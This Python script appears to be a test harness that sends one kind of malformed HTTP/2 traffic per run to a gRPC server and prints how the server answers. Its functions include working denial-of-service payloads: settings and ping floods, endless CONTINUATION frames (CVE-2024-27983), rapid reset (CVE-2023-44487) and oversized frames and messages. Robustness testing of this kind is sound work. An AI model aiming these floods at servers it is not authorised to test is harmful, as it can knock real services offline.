"""HTTP/2 as no decent client speaks it. One kind of rudeness per run; what came of it is one line on standard output.

Usage: rude_http2.py HOST PORT CA_FILE KIND
"""

import socket
import ssl
import sys

from h2.config import H2Configuration
from h2.connection import H2Connection

HOST, PORT, CA_FILE, KIND = sys.argv[1:]
PATIENCE = 2  # seconds without a byte from the server
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])


def connect():
    context = ssl.create_default_context(cafile=CA_FILE)
    context.set_alpn_protocols(["h2"])
    plain = socket.create_connection((HOST, int(PORT)), timeout=PATIENCE)
    return context.wrap_socket(plain, server_hostname=HOST)


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def headers(path):
    return [
        (":method", "POST"),
        (":scheme", "https"),
        (":authority", HOST),
        (":path", path),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def started(to):
    # Without validation: it must be able to say what is wrong.
    h2 = H2Connection(H2Configuration(validate_outbound_headers=False, normalize_outbound_headers=False))
    h2.initiate_connection()
    to.sendall(h2.data_to_send())
    return h2


def no_preface(to):
    to.sendall(b"\x00" * 1024)


def half_a_frame(to):
    to.sendall(PREFACE + SETTINGS + b"\x00\x40\x00\x00")
    to.shutdown(socket.SHUT_WR)


def giant_frame(to):
    to.sendall(PREFACE + SETTINGS + b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" + b"x" * 100_000)


def unknown_frames(to):
    to.sendall(PREFACE + SETTINGS + frame(0x77, 0xFF, 0, b"?" * 100) * 100)


def settings_flood(to):
    to.sendall(PREFACE + SETTINGS * 20_000)


def ping_flood(to):
    to.sendall(PREFACE + SETTINGS + frame(6, 0, 0, b"12345678") * 20_000)


def broken_hpack(to):
    to.sendall(PREFACE + SETTINGS + frame(1, 4, 1, b"\xff" * 64))


def endless_headers(to):
    """CONTINUATION without end (CVE-2024-27983 and its kin)."""
    to.sendall(PREFACE + SETTINGS + frame(1, 0, 1, b"\x00\x01a\x01b"))
    for _ in range(2_000):
        to.sendall(frame(9, 0, 1, b"\x00\x01a\x01b" * 200))


def rapid_reset(to):
    """Requests that are taken back at once (CVE-2023-44487)."""
    h2 = started(to)
    for _ in range(2_000):
        stream = h2.get_next_available_stream_id()
        h2.send_headers(stream, headers("/grpc.health.v1.Health/Check"))
        h2.reset_stream(stream)
        to.sendall(h2.data_to_send())


def giant_message(to):
    """A gRPC message that says it is 4 GiB long."""
    h2 = started(to)
    h2.send_headers(1, headers("/grpc.health.v1.Health/Check"))
    h2.send_data(1, b"\x00\xff\xff\xff\xff" + b"x" * 10_000)
    to.sendall(h2.data_to_send())


def bad_message(to):
    """A message that is no protobuf, on a stream that waits for machines."""
    h2 = started(to)
    h2.send_headers(1, headers("/occmesh.link.v1.LinkService/Link"))
    h2.send_data(1, b"\x00\x00\x00\x00\x04\xff\xff\xff\xff", end_stream=True)
    to.sendall(h2.data_to_send())


def no_window(to):
    """Never lets the server answer."""
    h2 = started(to)
    h2.update_settings({4: 0})
    h2.send_headers(1, headers("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"))
    h2.send_data(1, b"\x00\x00\x00\x00\x02\x3a\x00" * 500)
    to.sendall(h2.data_to_send())


def goaways(data):
    """Codes of the GOAWAY frames in what the server sent."""
    while len(data) >= 9:
        length = int.from_bytes(data[:3], "big")
        if data[3] == 7:
            yield int.from_bytes(data[13:17], "big")
        data = data[9 + length :]


def answer(to):
    """What the server does until it ends the connection or says nothing more."""
    data = b""
    ending = "closed"
    try:
        while chunk := to.recv(65536):
            data += chunk
    except socket.timeout:
        ending = "silent"
    except (ConnectionError, ssl.SSLError) as error:
        ending = f"closed: {type(error).__name__}"
    said = [f"goaway {code}" for code in goaways(data)]
    return ", ".join([f"{len(data)} bytes", *said, ending])


def main():
    with connect() as to:
        try:
            globals()[KIND](to)
            print(answer(to))
        except (ConnectionError, ssl.SSLError, socket.timeout) as error:
            print(f"closed while it spoke: {type(error).__name__}")


main()
